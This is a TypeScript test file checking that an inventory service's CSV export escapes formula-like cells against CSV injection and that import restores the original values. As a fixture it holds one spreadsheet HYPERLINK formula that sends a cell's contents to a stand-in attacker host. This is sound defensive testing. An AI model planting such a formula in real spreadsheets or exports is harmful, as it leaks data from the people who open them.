import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSite } from '../../../../test/factories.ts';
import { uploadFile } from '../../../../test/fixtures/inventory-fixtures.ts';
import { createTestContext, DEMO, type TestContext } from '../../../../test/index.ts';
import { inventoryCsv } from '../import/inventory-files.ts';

/**
 * Issue 23, CSV injection: the inventory CSVs the server writes hold no cell a spreadsheet would run
 * as a formula, and the import reads such a file back as the values that were written.
 */

let ctx: TestContext;
let owner: string;

beforeAll(async () => {
  ctx = await createTestContext({ sites: 20 });
  owner = await ctx.tokenOf(DEMO.owner);
});
afterAll(() => ctx.close());

const HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/** Every cell of a CSV as a spreadsheet would first see it (quotes undone, nothing else). */
function cells(csv: string): string[] {
  return Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();
}

const formulaCells = (csv: string) =>
  cells(csv).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell));

const stored = async (code: string) =>
  (
    await ctx.database.query<Record<string, unknown>>(
      `select supplier_code, vendor_inv_code, location, locality, zone, format, lat, lng
         from sites where site_code = $1`,
      [code],
    )
  )[0];

describe('inventory CSV and formulas', () => {
  it('writes the template with no formula; its example row is skipped on import, its values read back under another code', async () => {
    const res = await ctx.call('/download_inventory_template', { format: 'csv' }, owner);
    expect(res.statusCode).toBe(200);
    expect(formulaCells(res.body)).toEqual([]);
    // Latitude and longitude are plain numbers: written as they are, not as text.
    expect(res.body).toContain(',-33.4446,-70.6553,');
    // Sent back as it is (or with the example's code in small letters): the example makes no site.
    for (const body of [res.rawPayload, Buffer.from(res.body.replace('CL-EX-000001', 'cl-ex-000001'))]) {
      const asIs = await uploadFile(ctx, owner, body);
      expect(asIs.statusCode, asIs.body).toBe(200);
      expect(asIs.json()).toMatchObject({
        added: [],
        updated: [],
        error: [],
        total: 0,
        example_skipped: true,
      });
    }
    expect(await stored('CL-EX-000001')).toBeUndefined();
    const imported = await uploadFile(
      ctx,
      owner,
      Buffer.from(res.body.replace('CL-EX-000001', 'CL-EX-000002')),
    );
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toMatchObject({ error: [], total: 1, example_skipped: false });
    expect(await stored('CL-EX-000002')).toMatchObject({
      location: 'Av. Libertador Bernardo O’Higgins 1449',
      lat: -33.4446,
      lng: -70.6553,
    });
  });

  it('guards and quotes a formula-like cell, and the import gives back the value typed', async () => {
    const typed = {
      supplier_code: '@EX-1',
      vendor_inv_code: '+56 13101',
      location: HYPERLINK,
      locality: '-Centro',
      // Text that starts with a quote of its own before a formula keeps it.
      zone: "'=1+2",
      format: "'12x4",
    };
    const csv = inventoryCsv([buildSite('CSV-FORMULA-1', typed)]);
    expect(formulaCells(csv)).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?d=""&B2,""Open"")"`);
    expect(csv).toContain(`"'@EX-1","'+56 13101"`);
    expect(csv).toContain(`"'-Centro"`);
    expect(csv).toContain(`"''=1+2"`);
    expect(csv).toContain(`"'12x4"`);

    const imported = await uploadFile(ctx, owner, Buffer.from(csv));
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toMatchObject({ added: ['CSV-FORMULA-1'], error: [] });
    expect(await stored('CSV-FORMULA-1')).toMatchObject({ ...typed, lat: -33.4446, lng: -70.6553 });
  });
});
